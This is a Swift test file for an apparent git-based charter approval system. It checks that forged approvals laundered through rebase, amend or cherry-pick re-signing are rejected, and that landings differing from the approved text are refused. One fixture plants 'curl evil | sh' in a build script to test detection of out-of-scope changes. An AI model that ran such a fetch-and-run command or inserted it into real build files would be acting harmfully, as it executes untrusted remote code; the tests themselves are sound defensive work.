import Evidence
import Git
import Policies
import Stories
import TestSupport
import Testing

/// Approvals that somebody else wrote and that git signed in the victim's name, and landings of
/// something else than what was approved.
@Suite struct AttacksByLaundering {
  let story: Story
  let idea: StoryProposal

  init() throws {
    story = try Story()
    idea = try story.serveTheSea(approvedBy: "cy")
  }

  /// An approval by ben that ben never saw, unsigned, on top of some commit.
  private func forgery(on parent: ObjectID) throws -> ObjectID {
    let forged = try story.sign(.approve, idea, by: "ben") { draft in
      draft.parents = [parent]
      draft.tree = try story.tree(of: parent)
      draft.signer = .nobody
    }
    idea.signoffs.removeLast()
    return forged
  }

  /// What git made of the forgery has ben's signature and ben's words, and does not count.
  private func expectLaundered(at location: SourceLocation = #_sourceLocation) throws {
    let laundered = try story.head()
    let text = String(decoding: try story.work.bytes(of: laundered), as: UTF8.self)
    #expect(text.contains("parent \(idea.head.hex)\n"), sourceLocation: location)
    #expect(text.contains("Charter-Revision: \(idea.head.hex)\n"), sourceLocation: location)
    #expect(text.contains("gpgsig -----BEGIN SSH SIGNATURE"), sourceLocation: location)
    idea.signoffs.append(laundered)
    try story.expectHostile(
      try story.ratify(idea, by: "ana"), .invalid, [.notApproved],
      reasons: ["ben": [.notCanonical]], because: "It lacks required approvals.",
      wayOut: "charter status", at: location)
    try story.publish(["\(idea.head.hex):\(idea.branch)"])
    let name = "refs/charter/signoffs/\(idea.id)/ben/0123456789abcdef"
    try story.expectRefused(
      "\(laundered.hex):\(name)", because: "this is not a signed sign-off",
      wayOut: "charter approve", at: location)
  }

  @Test func rebase() throws {
    try story.checkOut(try forgery(on: story.main), branch: "bens", by: "ben")
    try story.git(
      "rebase", "--quiet", "--onto", idea.head.hex, story.main.hex, by: "ben", signing: true)
    try expectLaundered()
  }

  @Test func amend() throws {
    try story.checkOut(try forgery(on: idea.head), branch: "bens", by: "ben")
    try story.git(
      "commit", "--quiet", "--amend", "--allow-empty", "--no-edit", by: "ben", signing: true)
    try expectLaundered()
  }

  @Test func cherryPick() throws {
    let forged = try forgery(on: story.main)
    try story.checkOut(idea.head, branch: "bens", by: "ben")
    try story.git("cherry-pick", "--allow-empty", forged.hex, by: "ben", signing: true)
    try expectLaundered()
  }

  /// A good approval that its own author carried to a newer version by a rebase.
  @Test func ownApprovalRebased() throws {
    let approval = try story.sign(.approve, idea, by: "ben")
    idea.signoffs.removeLast()
    let old = idea.head
    try story.revise(
      idea, by: "ana", changing: [Paths.support: .text(Setting.support(purpose: "Help all."))])
    try story.checkOut(approval, branch: "bens", by: "ben")
    try story.git(
      "rebase", "--quiet", "--onto", idea.head.hex, old.hex, by: "ben", signing: true)
    idea.signoffs = [try story.head()]
    try story.approve(idea, by: "dee")
    try story.expectHostile(
      try story.ratify(idea, by: "ana"), .invalid, [.notApproved],
      reasons: ["ben": [.notCanonical, .wrongRevision, .digestMismatch]],
      because: "It lacks required approvals.",
      wayOut: "charter status")
  }

  @Test func ratificationAmended() throws {
    try story.approve(idea, by: "ben")
    try story.checkOut(try story.ratify(idea, by: "ana"), branch: "anas")
    try story.git("commit", "--quiet", "--amend", "--no-edit", signing: true)
    try story.expectHostile(
      try story.head(), .invalid, [.rewritten], because: "It was re-written after it was signed",
      wayOut: "charter verify")
  }
}

/// What lands is not what was approved.
@Suite struct AttacksByOtherLandings {
  let story: Story

  init() throws { story = try Story() }

  private func both(approvedBy handles: String...) throws -> StoryProposal {
    let idea = try story.propose(
      by: "ana", "Serve both",
      changing: [
        Paths.mission: Story.sea, Paths.support: .text(Setting.support(purpose: "Help all.")),
      ])
    for handle in handles { try story.sign(.approve, idea, by: handle) }
    return idea
  }

  @Test func halfLanding() throws {
    let idea = try both(approvedBy: "ben", "cy")
    let half = try story.tree(story.tree(of: story.main), [Paths.mission: Story.sea])
    try story.expectHostile(
      try story.ratify(idea, by: "ana", landing: half), .invalid,
      [.partialLanding], because: "roles/support.md differs", wayOut: "charter ratify")
  }

  @Test func somethingSlippedIn() throws {
    let idea = try story.serveTheSea(approvedBy: "ben", "cy")
    let more = try story.tree(
      story.landing(of: idea), [Paths.support: .text(Setting.support(holder: "ana"))])
    try story.expectHostile(
      try story.ratify(idea, by: "ana", landing: more), .invalid,
      [.partialLanding, .notApproved], because: "roles/support.md differs",
      wayOut: "charter ratify")
  }

  @Test func somethingOutsideSlippedIn() throws {
    let idea = try story.serveTheSea(approvedBy: "ben", "cy")
    let more = try story.tree(story.landing(of: idea), ["build.sh": "curl evil | sh\n"])
    try story.expectHostile(
      try story.ratify(idea, by: "ana", landing: more), .invalid, [.outsideRoot],
      because: "It changes files outside Charters/ as well.", wayOut: "charter ratify")
  }

  /// Sections approved in different versions, by different people, landed together.
  @Test func compositionOfVersions() throws {
    let idea = try story.propose(
      by: "ana", "Say it better",
      changing: [Paths.mission: .text(Setting.mission(statement: "The sea.", whom: "Fish."))])
    try story.approve(idea, by: "ben", "cy")
    try story.revise(
      idea, by: "ana",
      changing: [Paths.mission: .text(Setting.mission(statement: "The sky.", whom: "Birds."))])
    try story.approve(idea, by: "dee")
    let mixed = Entry.text(Setting.mission(statement: "The sea.", whom: "Birds."))
    let tree = try story.tree(story.tree(of: story.main), [Paths.mission: mixed])
    try story.expectHostile(
      try story.ratify(idea, by: "ana", landing: tree), .invalid, [.partialLanding, .notApproved],
      because: "What landed is not what the proposal says", wayOut: "charter ratify")
  }

  /// Every section has two approvals of the words that land, but only one person approved both.
  @Test func approvalsOfDifferentSections() throws {
    func mission(_ statement: String, _ whom: String) -> [String: Entry] {
      [Paths.mission: .text(Setting.mission(statement: statement, whom: whom))]
    }
    let idea = try story.propose(
      by: "ana", "Say it better", changing: mission("To serve the valley.", "Birds."))
    try story.approve(idea, by: "ben")
    try story.revise(idea, by: "ana", changing: mission("The sea.", "Fish."))
    try story.approve(idea, by: "cy")
    try story.revise(idea, by: "ana", changing: mission("The sea.", "Birds."))
    try story.approve(idea, by: "dee")
    try story.expectHostile(
      try story.ratify(idea, by: "ana"), .invalid, [.notApproved],
      reasons: ["ben": [.stale], "cy": [.stale]], because: "It lacks required approvals.",
      wayOut: "charter status")
  }

  /// What was decided and taken back comes again with the approvals of the first time.
  @Test func revertAndReapply() throws {
    let idea = try story.serveTheSea(approvedBy: "ben", "cy")
    let old = story.main
    try story.land(story.ratify(idea, by: "ana"))
    try story.decide(
      by: "ben", "Back to the valley", changing: [Paths.mission: .text(Setting.mission())],
      approvedBy: "cy", "dee")
    let again = try story.gather(idea, by: "ana")
    try story.expectHostile(
      try story.ratify(idea, by: "ana", gather: again), .invalid, [.wrongShape],
      because: "No signed opening of a proposal was found behind it.", wayOut: "charter ratify")
    // A new proposal with the same words, on the old base, and the old approvals.
    let copy = try story.propose(
      by: "ana", "Serve the sea", changing: [Paths.mission: Story.sea], on: old)
    let gather = try story.gather(copy, by: "ana", signoffs: idea.signoffs)
    try story.expectHostile(
      try story.ratify(copy, by: "ana", gather: gather), .invalid, [.notApproved], reasons: [:],
      because: "It lacks required approvals.", wayOut: "charter status")
  }

  /// A restore, which needs no approval, where nothing is to be mended.
  @Test func restoreOfNothing() throws {
    let old = try story.tree(of: story.founding)
    let restore = try story.restore(to: old, from: story.founding, mending: story.main)
    try story.expectHostile(
      restore, .invalid, [.wrongShape],
      because: "What it says it mends is no change that needs mending.", wayOut: "charter ratify")
  }

  /// A change without approval and its restore in one push: the hook takes no such change at all.
  @Test func bareChangeWithItsRestore() throws {
    let bare = try story.change([Paths.mission: Story.sea])
    let good = story.main
    story.main = bare
    let restore = try story.restore(to: story.tree(of: good), from: good, mending: bare)
    try story.expectVerdict(restore, .valid, [.changedWithoutApproval])
    try story.expectRefused(
      "\(restore.hex):refs/heads/main", because: "nobody's approval is recorded",
      wayOut: "charter propose")
  }
}
